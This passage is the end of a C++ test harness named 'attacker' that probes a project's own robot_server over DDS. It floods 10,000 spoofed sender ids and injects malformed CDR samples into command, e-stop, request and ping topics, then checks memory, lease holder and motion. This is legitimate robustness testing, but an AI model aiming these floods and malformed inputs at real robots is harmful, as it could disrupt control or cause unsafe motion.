                           std::to_string(rss_after) + " holder=" + witness_.Holder() + " ";
    const bool fine = RobotFine(&evidence);
    Report("strings_1mb",
           !fine || rss_after - rss_before > 64 * 1024 || witness_.Holder() != holder, evidence);
  }

  // 10. 10 000 distinct sender ids: take requests, clock pings and commands.
  void DistinctIds() {
    const int64_t rss_before = RssKb(options_.robot_pid);
    const int64_t evicted_before = witness_.Counter("network", "clock_clients_evicted");
    const std::string holder = witness_.Holder();
    for (int i = 0; i < 10'000; ++i) {
      char id[16];
      std::snprintf(id, sizeof(id), "id%05d", i);
      for (const Attacker& a : attackers_) {
        // In its primary partition: the robot's reader there drops them (another id), its
        // reader of pings from clients outside the role table hears the pings too.
        const WriterSet* set = a.Set(a.primary);
        if (set == nullptr) continue;
        WriteRequest(set->request, id, true);
        if (set->ping != nullptr) {
          msg::ClockProbe_ p;
          p.sender_id(id);
          p.sequence_number(1);
          p.t0(Stamp(WallNowNs()));
          set->ping->write(&p);
        }
        WriteCommand(set->command, id, 1, WallNowNs(), 0, 0, false);
      }
      if (i % 10 == 9) std::this_thread::sleep_for(2ms);
    }
    std::this_thread::sleep_for(1s);
    witness_.WaitFreshHealth();
    const int64_t rss_after = RssKb(options_.robot_pid);
    std::string evidence =
        "rss_kb=" + std::to_string(rss_before) + "->" + std::to_string(rss_after) +
        " clock_clients_evicted=" + std::to_string(evicted_before) + "->" +
        std::to_string(witness_.Counter("network", "clock_clients_evicted")) +
        " holder=" + witness_.Holder() + Counters({"network.sender_mismatch_dropped"}) + " ";
    const bool fine = RobotFine(&evidence);
    Report("distinct_ids_10000",
           !fine || rss_after - rss_before > 64 * 1024 || witness_.Holder() != holder, evidence);
  }

  // 11. Malformed samples: truncated CDR, lying string lengths, garbage, an empty payload, a
  // wrong encapsulation, and another type's bytes on each topic.
  void MalformedSamples() {
    attackers_.front().peer->DeleteReaders();
    witness_.ResetWindowWhenStill();
    const bool estop_before = witness_.Estop();
    const std::string holder = witness_.Holder();
    const int64_t now = WallNowNs();
    std::vector<std::vector<uint8_t>> samples;
    std::vector<uint8_t> full =
        CdrBytes().Time(now).U64(9'500'000).String(holder).F64(0.3).F64(0).Bool(true).Take();
    samples.emplace_back(full.begin(), full.begin() + 10);                           // truncated
    samples.push_back(CdrBytes().Time(now).U64(9'500'001).U32(0xFFFFFFF0u).Take());  // lying length
    samples.push_back(CdrBytes().Time(now).U32(0x7FFFFFFFu).Take());
    std::vector<uint8_t> garbage = {0x00, 0x01, 0x00, 0x00};
    uint32_t x = 2463534242u;
    for (int i = 0; i < 300; ++i) {
      x ^= x << 13;
      x ^= x >> 17;
      x ^= x << 5;
      garbage.push_back(static_cast<uint8_t>(x));
    }
    samples.push_back(garbage);
    samples.push_back({0x00, 0x01, 0x00, 0x00});                          // header only
    samples.push_back({0xFF, 0xFF, 0x00, 0x00, 1, 2, 3, 4, 5, 6, 7, 8});  // unknown encapsulation
    samples.push_back(
        CdrBytes().Time(now).String(holder).I32(1).Bool(false).Take());  // request bytes
    samples.push_back(CdrBytes().String(holder).U64(1).Time(now).Time(0).Time(0).Time(0).Take());
    for (int round = 0; round < 5; ++round) {
      for (const auto& s : samples) {
        for (const char* topic : {kCommand, kEstop, kRequest, kPing}) WriteRaw(topic, s);
      }
      std::this_thread::sleep_for(200ms);
    }
    std::this_thread::sleep_for(1s);
    witness_.WaitFreshHealth();
    std::string evidence = "samples=" + std::to_string(samples.size() * 4 * 5) + " " + Motion() +
                           " estop=" + (estop_before ? "1" : "0") + "->" +
                           (witness_.Estop() ? "1" : "0") + " holder=" + witness_.Holder() + " ";
    const bool fine = RobotFine(&evidence);
    Report("malformed_samples",
           !fine || Moved() || witness_.Estop() != estop_before || witness_.Holder() != holder,
           evidence);
  }

  Options options_;
  DiscoveryLog witness_log_{"witness"};  // declared before the peer it outlives
  std::unique_ptr<Peer> witness_peer_;
  Witness witness_;
  std::vector<Attacker> attackers_;
  std::atomic<int> heard_video_{0}, heard_scan_{0}, heard_health_{0}, heard_odom_{0};
  std::mutex mutex_;
  int heard_commands_ = 0;
  std::optional<msg::VelocityCommand_> captured_;  // the victim's latest command
  std::optional<msg::VelocityCommand_> replay_source_;
  std::map<uint64_t, msg::ClockProbe_> pongs_;
  int drives_ = 0;
  int insider_drives_ = 0;
  int insider_pings_ = 0;
};

int Main(int argc, char** argv) {
  CLI::App app{"attacker: attacks robot_server over DDS and reports what worked (tests)"};
  Suite::Options options;
  app.add_option("--domain", options.domain, "DDS domain id")->check(CLI::Range(0, 232));
  app.add_option("--pki", options.pki, "directory of a make_pki.sh PKI: attack with insiders too");
  app.add_option("--pilot-cert", options.pilot_cert,
                 "a pilot certificate's name in --pki (without: the id to play)");
  app.add_option("--observer-cert", options.observer_cert,
                 "an observer certificate's name (without --pki: the id)");
  app.add_option("--relay-cert", options.relay_cert,
                 "a relay certificate's name (without --pki: the id)");
  app.add_option("--dds-profile", options.dds_profile,
                 "Fast DDS XML file (no DDS Security) whose transports and discovery to use");
  app.add_option("--dds-profile-name", options.dds_profile_name,
                 "the participant profile of --dds-profile");
  app.add_option("--tcp-port-base", options.tcp_port_base,
                 "TCPv4 profiles: each participant listens on its own port from this one on, "
                 "else Fast DDS 2.9 serves them all on one connection (0: the profile's ports)")
      ->check(CLI::Range(0, 65000));
  app.add_option("--witness-cert", options.witness_cert,
                 "certificate of the participant that watches the robot");
  app.add_option("--victim", options.victim, "the live pilot's id (holds the lease)");
  app.add_option("--claim", options.claim, "a stronger pilot id of the role table, no certificate");
  app.add_option("--robot-pid", options.robot_pid, "robot_server's process id (memory, liveness)");
  CLI11_PARSE(app, argc, argv);
  if (!options.pki.empty() && options.witness_cert.empty()) {
    std::cerr << "attacker: --pki needs --witness-cert\n";
    return 2;
  }
  Suite suite(options);
  return suite.Run();
}

}  // namespace
}  // namespace attacker

int main(int argc, char** argv) {
  const int status = attacker::Main(argc, argv);
  std::cout.flush();
  // The report is out; end without static destructors, as mostar programs do (dds::EndProcess).
  std::_Exit(status);
}
